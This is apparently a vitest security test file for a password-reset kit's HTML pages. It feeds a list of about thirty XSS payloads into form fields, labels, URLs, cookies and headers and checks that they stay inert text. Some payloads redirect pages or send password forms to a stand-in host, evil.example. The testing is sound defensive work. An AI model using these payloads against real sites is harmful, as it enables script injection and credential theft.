import { parse } from "node-html-parser";
import { describe, expect, it } from "vitest";
import { htmlPages } from "../../src/pages/pages.js";
import { makeKit } from "../kit.js";
import { browse, site } from "./browse.js";

const payloads = [
  `<script>alert(1)</script>`,
  `"><script>alert(1)</script>`,
  `'><img src=x onerror=alert(1)>`,
  `" autofocus onfocus=alert(1) x="`,
  `' onmouseover='alert(1)`,
  `<svg/onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `</title><script>alert(1)</script>`,
  `</style><script>alert(1)</script>`,
  `</textarea><script>alert(1)</script>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<iframe src="javascript:alert(1)">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<form action="//evil.example"><input name=password>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<input type="image" src=x onerror=alert(1)>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `\u0000<script>alert(1)</script>`,
  `{{constructor.constructor('alert(1)')()}}`,
  "${alert(1)}",
  "`-alert(1)-`",
  `$&$'$\`<b>`,
  `javascript:alert(1)`,
  `\u202E<b>gnp.exe`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
  `<ſcript>alert(1)</ſcript>`,
];

/** How a page is built, without its words: whatever is put in must not change it. */
function skeleton(text: string): string {
  const tags: string[] = [];
  const walk = (node: ReturnType<typeof parse>) => {
    const names = Object.keys(node.attributes).filter((name) => name !== "aria-describedby");
    if (node.tagName) tags.push(`${node.tagName} ${names.join(" ")}`);
    for (const child of node.children) walk(child);
  };
  walk(parse(text));
  // One reason or two: a list may be longer.
  return tags.filter((tag, index) => tag !== tags[index - 1]).join("\n");
}

describe.each(payloads)("%s", (payload) => {
  const kit = makeKit({ validators: [] });

  it("stays text in what was typed", async () => {
    const pages = htmlPages(kit.reset, { baseUrl: site, codes: true });
    for (const path of ["/forgot-password", "/reset-password/code"]) {
      const visitor = browse(pages);
      const form = await visitor.get(path);
      const plain = await visitor.submit(form, { email: "harmless", code: "" });
      const shown = await visitor.submit(form, { email: payload, code: "" });
      expect(shown.status).toBe(400);
      expect(skeleton(shown.text)).toBe(skeleton(plain.text));
      expect(shown.page.querySelector("#email")!.getAttribute("value")).toBe(
        payload.trim().replaceAll("\0", "\uFFFD"),
      );
    }
  });

  it("stays text in names, labels, identifiers and reasons, and is in no page that it was only sent to", async () => {
    const names = { appName: payload, label: payload, identifierOf: () => payload };
    const refuse = { validators: [() => payload] };
    const strange = makeKit(refuse);
    const harmless = makeKit({ validators: [() => "harmless"] });
    const bodies = await Promise.all(
      [
        { engine: strange, options: names },
        { engine: harmless, options: { appName: "a", label: "a", identifierOf: () => "a" } },
      ].map(async ({ engine, options }) => {
        const visitor = browse(htmlPages(engine.reset, { baseUrl: site, ...options }));
        const form = await visitor.open((await engine.ask("ada@example.com")).url);
        const weak = await visitor.submit(form, { password: "x", repeat: "x" });
        const ask = await visitor.get("/forgot-password");
        return [form, weak, ask].map(({ text }) => skeleton(text));
      }),
    );
    expect(bodies[0]).toEqual(bodies[1]);

    const pages = htmlPages(kit.reset, { baseUrl: site });
    const token = encodeURIComponent(payload);
    const reflected = await Promise.all([
      pages(new Request(`${site}/reset-password/${token}`)),
      pages(new Request(`${site}/forgot-password?email=${token}`)),
      pages(new Request(`${site}/reset-password`, { headers: { cookie: `__Host-resetkit=${token}` } })),
      pages(new Request(`${site}/forgot-password`, { headers: { "accept-language": token } })),
    ]);
    const clean = await browse(pages).get("/forgot-password");
    const over = await browse(pages).get("/reset-password");
    for (const response of reflected) {
      const text = await response.text();
      expect(["", skeleton(clean.text), skeleton(over.text)]).toContain(text && skeleton(text));
      expect(text).not.toContain("alert(1)");
    }
  });
});

describe("the skeleton", () => {
  it("tells a page with a script put in from one without", () => {
    expect(skeleton(`<p>${payloads[0]}</p>`)).not.toBe(skeleton(`<p>harmless</p>`));
    expect(skeleton(`<input value="${payloads[3]}">`)).not.toBe(skeleton(`<input value="x">`));
  });
});
